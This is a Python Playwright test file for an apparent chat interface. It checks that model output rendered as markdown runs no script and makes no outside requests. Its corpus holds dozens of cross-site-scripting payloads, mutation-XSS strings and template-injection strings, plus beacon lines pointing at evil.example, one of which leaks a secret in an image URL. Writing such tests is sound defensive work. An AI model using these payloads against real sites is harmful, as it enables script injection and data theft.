"""What models and people write is shown, and never run, loaded or mistaken for ours."""

import base64

import pytest
from playwright.sync_api import expect
from tests.browser.conftest import Open
from tests.browser.test_playground import answers, at, say

HURT = "window.hurt=1"
CORPUS = [
    f"<img src=x onerror={HURT}>",
    f"<script>{HURT}</script>",
    f"<svg onload={HURT}>",
    f"<svg><animate onbegin={HURT} attributeName=x dur=1s>",
    f"<iframe srcdoc='<script>parent.{HURT}</script>'></iframe>",
    f"<iframe src='javascript:parent.{HURT}'></iframe>",
    f"[click](javascript:{HURT})",
    f"[click](JaVaScRiPt:{HURT})",
    f"[click](java\tscript:{HURT})",
    f"[click](data:text/html,<script>{HURT}</script>)",
    f"![x](javascript:{HURT})",
    f'![x](" onerror="{HURT})',
    f"<a href='javascript:{HURT}'>click</a>",
    f"<a href=' &#14; javascript:{HURT}'>click</a>",
    f"<details open ontoggle={HURT}>click</details>",
    f"<input autofocus onfocus={HURT}>",
    f"<form action='javascript:{HURT}'><button>click</button></form>",
    f"<button onclick={HURT}>click</button>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={HURT}>",
    f"<noscript><p title='</noscript><img src=x onerror={HURT}>'>",
    f"<style>*{{background:url(javascript:{HURT})}}</style>",
    "<style>body{display:none}</style>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "![beacon](https://evil.example/x.png?secret)",
    "<img src='https://evil.example/x.png'>",
    "<img src='/api/2.0/token/list'>",
    "<video src='https://evil.example/x.mp4' autoplay></video>",
    f"<object data='javascript:{HURT}'></object>",
    f"<embed src='javascript:{HURT}'>",
    f"```html\n<img src=x onerror={HURT}>\n```",
    f'```js"><img src=x onerror={HURT}>\ncode\n```',
    f"`<img src=x onerror={HURT}>`",
    f"<div style='position:fixed;inset:0' onmouseover={HURT}>click</div>",
    "<div id='content' class='button primary'>click</div>",
    f"<x-element onclick={HURT}>click</x-element>",
    f"<p><template><img src=x onerror={HURT}></template></p>",
    f"<svg><use href='data:image/svg+xml;base64,{base64.b64encode(b'<svg/>').decode()}#x'></svg>",
    "{{constructor.constructor('window.hurt=1')()}}",
    "{@html '<img src=x onerror=window.hurt=1>'}",
]


@pytest.mark.parametrize("start", range(0, len(CORPUS), 7))
def test_what_a_model_writes_runs_nothing(visit: Open, start: int) -> None:
    """The scripted model repeats what it is told; `visit` fails for what ran, and for requests that leave the host."""
    page = at(visit, "echo", hostile=True)
    for number, text in enumerate(CORPUS[start : start + 7]):
        say(page, text)
        expect(answers(page)).to_have_count(number + 1)
        expect(answers(page).last).to_contain_text("tokens")
        answer = answers(page).last
        for link in answer.locator(".markdown a").all():
            assert (link.get_attribute("href") or "").startswith(("https:", "http:", "mailto:")), text
            assert "noopener" in (link.get_attribute("rel") or "")
        for clicked in answer.get_by_text("click", exact=True).all():
            if clicked.evaluate("(one) => one.closest('.markdown') !== null && one.closest('a') === null"):
                clicked.click()
        forbidden = ("script, style, iframe, object, embed, form, link, meta, base, video, svg, math, [id], [style], "
                     "[onerror], [onclick], [onload], [ontoggle], [onfocus], [onbegin], [onmouseover], "
                     ".markdown .primary")  # fmt: skip
        assert answer.locator(".markdown").locator(forbidden).count() == 0, text
    expect(page.get_by_role("navigation", name="Main")).to_be_visible()


def test_what_is_shown_of_a_picture_elsewhere_is_a_link(visit: Open) -> None:
    page = at(visit, "echo")
    say(page, "![a chart](https://evil.example/x.png)")
    link = answers(page).get_by_role("link", name="a chart")
    expect(link).to_have_attribute("href", "https://evil.example/x.png")
    assert answers(page).locator("img").count() == 0
